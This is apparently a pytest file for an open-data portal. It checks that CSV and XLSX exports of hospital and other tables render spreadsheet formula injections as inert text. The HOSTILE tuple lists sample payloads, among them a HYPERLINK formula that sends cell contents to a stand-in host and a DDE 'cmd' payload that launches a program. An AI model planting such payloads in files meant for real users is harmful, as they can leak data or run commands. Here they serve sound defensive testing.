"""What people write never runs in a spreadsheet: on its way out it is a text, in every file of every table."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.cache import caches
from openpyxl import load_workbook

from kinten.portal.opendata import writing
from kinten.portal.opendata.tables import TABLES, Asking
from kinten.portal.opendata.writing import content_of
from kinten.portal.places import reading as places
from kinten.portal.places.services import record_rows
from kinten.portal.public.asking import today
from kinten.portal.record.appending import SYSTEM
from kinten.portal.reports import reading as reports

pytestmark = pytest.mark.django_db
HOSTILE = (
    '=HYPERLINK("https://a.example/?"&A1,"a")', "+1+1", "-1+cmd|' /C calc'!A1", "@SUM(1)",
    "\t=1+1", "\r=1+1",
)  # fmt: skip
RUNS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def counts():
    caches["memory"].clear()


@pytest.fixture
def forgetting():
    """Forget afterwards what was read of rows that a roll-back takes away."""
    yield
    for kept in (places._atlas, places._seen, reports._examples, writing._kept):
        kept.cache_clear()


@pytest.mark.parametrize("name", TABLES)
def test_no_cell_of_an_open_table_runs(name):
    table = TABLES[name]
    rows = tuple(tuple(text for _ in table.columns) for text in HOSTILE)
    asking = Asking(today())
    told = content_of(table, asking, rows, ".csv", "ja").decode("utf-8-sig")
    book = content_of(table, asking, rows, ".xlsx", "ja")

    lines = list(csv.reader(io.StringIO(told, newline="")))
    assert [line[0] for line in lines[1:]] == [f"'{text}" for text in HOSTILE]
    assert not [cell for line in lines for cell in line if cell.startswith(RUNS)]
    kinds = {
        cell.data_type for sheet in load_workbook(io.BytesIO(book)) for row in sheet for cell in row
    }
    assert "f" not in kinds
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheets = [archive.read(part) for part in archive.namelist() if "worksheets/sheet" in part]
    assert not any(b"<f>" in each or b"<f " in each for each in sheets)


def test_a_name_that_was_recorded_comes_out_as_text(visitor, forgetting):
    row = {
        "hospital_id": "HOSTILE1", "name": "=1+1病院", "prefecture": "13",
        "municipality": "13101", "address": "@SUM(1)",
    }  # fmt: skip
    begins = {
        "hospital_id": "HOSTILE1", "kind": "regional", "begins": "2023-04-01", "source": "+1",
    }  # fmt: skip
    record_rows(SYSTEM, "hospitals", [row], today(), is_made_up=True)
    record_rows(SYSTEM, "designations", [begins], today(), is_made_up=True)
    told = visitor.get("/data/hospitals.csv").content.decode("utf-8-sig")

    assert "'=1+1病院" in told
    cells = [cell for line in csv.reader(io.StringIO(told, newline="")) for cell in line]
    assert not [cell for cell in cells if cell.startswith(RUNS) and cell != "-"]
